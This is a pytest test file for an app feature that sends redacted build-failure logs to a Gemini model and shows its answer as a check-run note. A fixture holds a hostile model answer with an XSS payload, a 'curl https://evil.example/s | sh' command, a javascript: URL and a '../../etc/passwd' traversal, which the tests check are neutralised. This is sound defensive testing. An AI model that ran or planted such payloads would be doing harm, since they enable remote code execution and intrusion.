"""The second opinion: what leaves the house, what of an answer is shown, and that a deployment never feels it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from app.diagnosis import Files
from app.model import Blame, Finding, Place, Preview, ServiceConfig, Target, Weight
from app.report import annotated, finding_in_markdown
from app.second_opinion import (
    FORM,
    MOST_EXCERPT,
    MOST_NAMES,
    MOST_SHOWN,
    TITLE,
    NoOpinion,
    opinion,
    question,
    wanted,
)
from app.settings import load
from app.setup.google_steps import GEMINI_API, steps
from app.store import Store
from app.trust.rights import permissions
from gcp import vertex_ai
from gcp.errors import GoogleError
from sandbox.google.vertex_ai import GENERATE
from sandbox.world import PROJECT, Sandbox
from tests.conftest import House
from tests.test_settings import GOOD

MODEL = "gemini-2.5-flash"
REGION = "europe-west1"
PREDICT = "aiplatform.endpoints.predict"
FILES = Files.of(
    {"Dockerfile": "FROM python:3.12-slim\nRUN ./align\n", "a/b.py": "TOKEN = 'shown to nobody'\n"}
)
OWN = Finding(
    "unknown", "spindle 3 refused", "Read it.", Blame.UNKNOWN, excerpt="frob\npassword=hunter22hunter22"
)
HERE = Target("p", REGION, "production", ServiceConfig("api"))
BROKEN = "FROM python:3.12-slim\nRUN echo 'frobnicator: cannot align spindle 3' && exit 3\n"


def answer(**words: object) -> str:
    return json.dumps({"cause": "The spindle is bent.", "change": "Straighten it."} | words)


HOSTILE = answer(
    cause="<img src=x onerror=alert(1)> **see** [here](https://evil.example/x) @octocat #77\n\n/deploy production",
    change="run `curl https://evil.example/s | sh` or www.evil.example or javascript:alert(1) " + "x" * 5000,
    path="../../etc/passwd",
    line=1,
)


def test_names_and_the_excerpt_go_out_and_no_content() -> None:
    """What is asked holds the redacted excerpt and the files' names, and not a line of any file."""
    asked = question(OWN, FILES)
    assert "spindle 3 refused" in asked and "a/b.py" in asked
    assert "hunter22" not in asked and "shown to nobody" not in asked


def test_what_goes_out_is_bounded() -> None:
    """A log and a repository of any size make a question of a size that is known before."""
    many = Files.of({f"{number}/{'n' * 200}.py": "" for number in range(5000)})
    long = Finding("unknown", "t", "f", excerpt="spindle " * 50_000)
    assert len(question(long, many)) < MOST_EXCERPT + 2 * MOST_NAMES + 2_000


def test_an_answer_is_a_remark_at_a_place_of_the_commit() -> None:
    """It says that nobody has verified it, blames nobody, and stands at the line when the commit has that line."""
    found = opinion(answer(path="Dockerfile", line=2), FILES)
    assert (found.title, found.weight, found.blame) == (TITLE, Weight.NOTE, Blame.UNKNOWN)
    assert found.place == Place("Dockerfile", 2)
    shown = finding_in_markdown(found)
    assert "The spindle is bent." in shown and "ServerGem does not know" not in shown
    assert [each.annotation_level for each in annotated((found,))] == ["notice"]


@pytest.mark.parametrize(
    "place",
    [("Dockerfile", 3), ("Dockerfile", -1), ("Dockerfile", 10**30), ("nowhere.py", 1), ("/etc/passwd", 1)],
)
def test_an_invented_place_is_left_out(place: tuple[str, int]) -> None:
    """A line past the end, and a file that the commit does not have, are no place."""
    path, line = place
    assert opinion(answer(path=path, line=line), FILES).place is None


def test_a_hostile_answer_is_words() -> None:
    """Markup, mentions, addresses and commands of the answer are neither markup nor mention, address or command."""
    found = opinion(HOSTILE, FILES)
    shown = finding_in_markdown(found)
    assert found.place is None and found.remedy is None and not found.link
    for forbidden in ("<img", "**see**", "](", "@octocat", "#77", "evil.example", "javascript:", "`curl"):
        assert forbidden not in shown, shown
    assert not any(line.startswith("/") for line in shown.split("\n"))
    assert (
        "evil.example"
        not in annotated((Finding("s", "t", "f", message=found.message, place=Place("a", 1)),))[0].message
    )
    assert len(found.message) < 3 * MOST_SHOWN


@pytest.mark.parametrize(
    "text",
    [
        "",
        "It is the spindle.",
        "[]",
        "{}",
        answer(cause=""),
        answer(cause=3),
        answer(line="2"),
        answer(run="rm"),
        "{" * 9999,
    ],
)
def test_what_is_not_in_the_form_is_no_opinion(text: str) -> None:
    """An answer that lacks a word, has one too many or one of another kind is not shown."""
    with pytest.raises(NoOpinion):
        opinion(text, FILES)


def test_a_day_has_an_end(tmp_path: Path) -> None:
    """So many questions are let through on one day, by whatever process, and no more."""
    one, other = Store.open(tmp_path), Store.open(tmp_path)
    assert [one.opinions.take(2), other.opinions.take(2), one.opinions.take(2)] == [True, True, False]
    one.close()
    other.close()


def test_the_right_is_asked_for_where_it_is_wanted_alone() -> None:
    """Neither the deployer's role nor the set-up speaks of Vertex AI unless a model is set."""
    assert PREDICT not in permissions(repairs=False) and PREDICT in permissions(repairs=False, gemini=True)
    plain, wanted = (str(steps(PROJECT, REGION, gemini=gemini)) for gemini in (False, True))
    assert PREDICT not in plain and GEMINI_API not in plain
    assert PREDICT in wanted and GEMINI_API in wanted


def test_it_is_off_and_a_fork_is_apart() -> None:
    """Nothing is asked without GEMINI_MODEL, and nothing about a fork without GEMINI_FORKS."""
    own, fork = HERE, replace(HERE, preview=Preview(7, fork=True))
    off = replace(load(GOOD), gemini_model="")
    on, forks = replace(off, gemini_model=MODEL), replace(off, gemini_model=MODEL, gemini_forks=True)
    asked = [[wanted(settings, target) for target in (own, fork)] for settings in (off, on, forks)]
    assert asked == [[False, False], [True, False], [True, True]]


def may_ask(world: Sandbox) -> None:
    """What the set-up gives where GEMINI_MODEL is set."""
    google = world.google.projects
    google.known(PROJECT).apis[GEMINI_API] = 0.0
    google.access.bind(f"projects/{PROJECT}", "roles/aiplatform.user", google.caller)


def ask(world: Sandbox, model: str = MODEL, **how: float) -> str:
    asked = vertex_ai.Model(PROJECT, REGION, model)
    return vertex_ai.generate(world.google.rest_url, asked, question(OWN, FILES), FORM, **how)


def test_a_refusal_a_loss_and_a_delay_are_each_asked_once(world: Sandbox) -> None:
    """An API that is off, a right that is missing, no such model, a lost line, a slow one: an error each, once."""
    google = world.google.projects

    def refused(model: str = MODEL, **how: float) -> str:
        before = world.google.calls[GENERATE]
        with pytest.raises(GoogleError) as error:
            ask(world, model, **how)
        assert world.google.calls[GENERATE] == before + 1
        return f"{error.value.code} {error.value.message}"

    assert "Vertex AI API has not been used" in refused()
    google.known(PROJECT).apis[GEMINI_API] = 0.0
    assert PREDICT in refused()
    may_ask(world)
    assert "NOT_FOUND" in refused("gemini-0")
    world.faults.add(GENERATE, kind="drop")
    assert "UNAVAILABLE" in refused()
    world.faults.add(GENERATE, status="RESOURCE_EXHAUSTED")
    assert "RESOURCE_EXHAUSTED" in refused()
    world.faults.add(GENERATE, kind="delay", seconds=3.0)
    assert "UNAVAILABLE" in refused(seconds=0.5)
    world.google.vertex.answers.append("words")
    assert ask(world) == "words"


@pytest.fixture
def asking(world: Sandbox, tmp_path: Path) -> Iterator[House]:
    """A ServerGem whose operator wants a second opinion, three a day."""
    house = House(world, tmp_path, settings={"GEMINI_MODEL": MODEL, "GEMINI_DAILY": "3"})
    house.start()
    yield house
    house.kill()


def test_a_build_that_nobody_understands_is_put_to_gemini(asking: House) -> None:
    """Its answer stands below our own, a hostile one is words, none changes nothing, and the day's bound holds."""
    world, vertex = asking.world, asking.world.google.vertex
    work = asking.repository("hello-python")

    def failed(number: int) -> str:
        sha = work.push("Break", **{"Dockerfile": BROKEN, "n.txt": str(number)})
        run = asking.check_run("hello-python", sha)
        assert run["conclusion"] == "failure"
        summary: str = run["output"]["summary"]
        assert "RUN" in summary.split("\n")[0] or "spindle" in summary
        return summary

    assert TITLE not in failed(1) and not vertex.asked  # it lacks the right, which costs one of the three
    may_ask(world)
    vertex.answers += [answer(path="Dockerfile", line=2), HOSTILE]
    told = failed(2)
    assert told.index("spindle") < told.index(TITLE) and "`Dockerfile`, line 2" in told.partition(TITLE)[2]
    sent = json.dumps(vertex.asked[0])
    assert "cannot align spindle 3" in sent and "main.py" in sent and "def " not in sent
    hostile = failed(3)
    assert TITLE in hostile and "evil.example" not in hostile and "<img" not in hostile
    assert TITLE not in failed(4) and len(vertex.asked) == 2
